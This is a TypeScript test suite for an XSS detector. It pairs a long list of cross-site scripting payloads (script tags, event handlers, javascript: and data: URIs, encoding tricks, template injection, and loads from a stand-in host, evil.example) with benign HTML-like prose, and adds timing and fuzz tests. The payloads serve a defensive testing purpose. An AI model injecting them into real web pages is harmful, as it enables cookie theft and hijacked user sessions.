// Table-driven tests for the XSS detector: markup and script that must be found, HTML-ish prose that must not.
import t from 'tap';
import { detectXss, XSS_MAX_INPUT } from '../../../src/inspect/detectors/xss.ts';

const attacks: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script >alert(1);</script>',
  'xyz<script',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)',
  '<IMG SRC="x" ONERROR="alert(document.cookie)">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<xss onbeforehellfreezes=alert(1)>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="evil.swf">',
  '<embed src="evil.swf">',
  '<applet code="Evil.class">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href=vbscript:msgbox(1)>x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<form action="javascript:alert(1)"><input type=submit>',
  '<button formaction=javascript:alert(1)>go</button>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<p style="background:url(javascript:alert(1))">',
  '<div style="width: expression(alert(1))">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<STYLE>BODY{-moz-binding:url("https://evil.example/x.xml#xss")}</STYLE>',
  '<style>@im\\port\'\\ja\\vasc\\ript:alert(1)\';</style>',
  '"><script>alert(1)</script>',
  '\'><img src=x onerror=alert(1)>',
  '</script><script>alert(1)</script>',
  '</title><svg onload=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus=alert(1) autofocus '",
  '" autofocus onfocus=alert(1) x="',
  'x onmouseover=alert(1)',
  'test;onfocus=eval(atob(\'YWxlcnQoMSk=\'))',
  'javascript:alert(1)',
  '  javascript:alert(document.domain)',
  'JAVASCRIPT:void(0)',
  'javascript://%0aalert(1)',
  'ja&Tab;vascript:alert(1)',
  'vbscript:msgbox("x")',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  "';alert(1)//",
  '";alert(1);"',
  "'-alert(1)-'",
  '\\";alert(1)//',
  "'+alert`1`+'",
  '{{constructor.constructor(\'alert(1)\')()}}',
  '{{$on.constructor(\'alert(1)\')()}}',
  'document.cookie',
  'document /*x*/ . cookie',
  'document.write("<img src=x>")',
  'self["alert"]("xss")',
  '[].sort.call`${alert}1337`',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '<scr\u0000ipt>alert(1)</script>',
  '{{7*7}}{{constructor.constructor(\'alert(1)\')()}}',
  '${alert(1)}',
  '<audio src/onerror=alert(1)>',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<svg><set attributeName="href" to="javascript:alert(1)" />',
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert() )//',
];

const benign: string[] = [
  'a < b and c > d',
  'x<y',
  'if x<y and y>z then',
  '<3',
  'I <3 you',
  'use the <strong> tag for bold',
  'Contact: John Smith <john@example.com>',
  '<john@example.com>',
  'on-call rotation',
  'data: 2024',
  'Data: see attached',
  'the online store is on sale',
  'turn on the light',
  'one=1&two=2',
  'JavaScript: The Good Parts',
  'I love javascript: it is fun',
  'Learn JavaScript and VBScript basics',
  '**bold** _italic_ [link](https://example.com)',
  '> quoted markdown line',
  '<p>Hello <strong>world</strong></p>',
  '<p>See <a href="https://example.com/docs">the docs</a>.</p>',
  '<a href="/admin/auth/user/3/change/">edit</a>',
  '<img src="/media/uploads/photo.jpg" alt="A photo" width="300">',
  '<ul><li>One</li><li>Two</li></ul>',
  '<h2>Title</h2><p>Body text with <em>emphasis</em>.</p>',
  '<table><tr><td>1</td></tr></table>',
  '<blockquote cite="https://example.com">quote</blockquote>',
  '<span style="color: red; font-weight: bold">warning</span>',
  '<div class="note" data-id="42">note</div>',
  '<input type="text" name="q" value="search">',
  '<br/>',
  '<!-- a comment -->',
  '5 > 3',
  'x => x * 2',
  'const f = (a) => a + 1;',
  'function add(a, b) { return a + b; }',
  'console.log("hello")',
  'print("hello, world")',
  "def greet(name): return f'Hello {name}'",
  'He said "hello" and left',
  "It's a dog's life",
  "O'Reilly's 'Learning Python' book",
  "'quoted', then call(me) later",
  'Price: $5 < $10',
  'Temperature < 0°C tonight',
  '2 << 3 equals 16',
  'user@example.com',
  'https://example.com/path?x=1&y=2#frag',
  'mailto:someone@example.com',
  'tel:+1-555-0100',
  'ftp://files.example.com/pub',
  'Template: {{ user.name }}',
  'Hello {{name}}, welcome',
  '${HOME}/bin',
  'The event onload fires when the page loads',
  'documentation about cookies',
  'Document. Cookie settings are below.',
  'window location is left',
  'Select <option> from the list',
  'Use <div> and <span> elements',
  'Use &lt;script&gt; tags carefully',
  'Ünïcödé <naïve> café',
  'Résumé — on-site or remote',
  'email_on_error=true',
  'dataset: iris',
  'onboarding=done',
  'i<n; i++',
  'Pressing Ctrl+< zooms out',
  'Run `--help` to see the options, or `--color` and `--no-color`.',
  'The function returns a Promise<Object> or Array<String>',
  'Add a <script> tag to your page, then reload',
  'Use an <iframe> to embed the video',
  'New `*_keygen()` helpers have been added',
  "grep -vE '^HAVE_(UNION|STRUCT)'",
  'eval(), put messages into config.log.',
];

t.test('attacks are detected', async (t) => {
  t.ok(attacks.length >= 60, `${attacks.length} attack cases`);
  for (const a of attacks) t.ok(detectXss(a), `detects ${JSON.stringify(a)}`);
});

t.test('benign values are not detected', async (t) => {
  t.ok(benign.length >= 60, `${benign.length} benign cases`);
  for (const b of benign) {
    const r = detectXss(b);
    t.equal(r, null, `allows ${JSON.stringify(b)}${r ? ` (fired: ${r.reason})` : ''}`);
  }
});

t.test('a detection names the matched part and the reason', async (t) => {
  const r = detectXss('hello <img src=x onerror=alert(1)> there');
  t.ok(r);
  t.match(r!.matched, /^onerror=alert\(1\)/);
  t.match(r!.reason, /event handler attribute onerror/);
});

t.test('only the first XSS_MAX_INPUT characters are examined', async (t) => {
  const pad = 'a '.repeat(XSS_MAX_INPUT);
  t.equal(detectXss(pad + '<script>alert(1)</script>'), null);
  t.ok(detectXss('<script>alert(1)</script>' + pad));
});

t.test('pathological inputs finish quickly', async (t) => {
  const inputs = ['<'.repeat(50000), '<a '.repeat(20000), '<a b='.repeat(10000), "'".repeat(50000), "';a(".repeat(10000), 'javascript:'.repeat(5000), '{{'.repeat(20000), 'on'.repeat(20000) + '=', '&#'.repeat(20000)];
  for (const s of inputs) {
    // Best of three: the machine is shared; a linear-time detector is fast in its quietest run.
    let ms = Infinity;
    for (let run = 0; run < 3; run++) {
      const t0 = process.hrtime.bigint();
      detectXss(s);
      ms = Math.min(ms, Number(process.hrtime.bigint() - t0) / 1e6);
    }
    t.ok(ms < 100, `${JSON.stringify(s.slice(0, 8))}… took ${ms.toFixed(2)} ms`);
  }
});

t.test('random mixes of SQL, HTML and JS fragments never throw', async (t) => {
  const pieces = ["'", '"', '`', '(', ')', ';', '--', '#', '/*', '*/', '/*!', ' ', 'or', 'and', 'union', 'select', '1', '=', '<', '>', 'script', 'on', 'load', 'javascript:', '&#', 'x', '{{', '}}', '${', '\\', '\n', '\u0000', '@@', '0x', 'e', '.', ',', 'sleep', 'from', '||', '::', 'svg', '/', 'src=', 'href=', '&colon;', 'all', 'distinct'];
  let seed = 12345;
  const rnd = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
  let thrown = 0;
  for (let i = 0; i < 20000; i++) {
    let s = '';
    const n = 1 + Math.floor(rnd() * (i % 100 === 0 ? 2000 : 30));
    for (let k = 0; k < n; k++) s += pieces[Math.floor(rnd() * pieces.length)];
    try {
      detectXss(s);
    } catch (err) {
      if (thrown++ < 5) t.fail(`threw on ${JSON.stringify(s.slice(0, 200))}: ${(err as Error).message}`);
    }
  }
  t.equal(thrown, 0, 'no input throws');
});
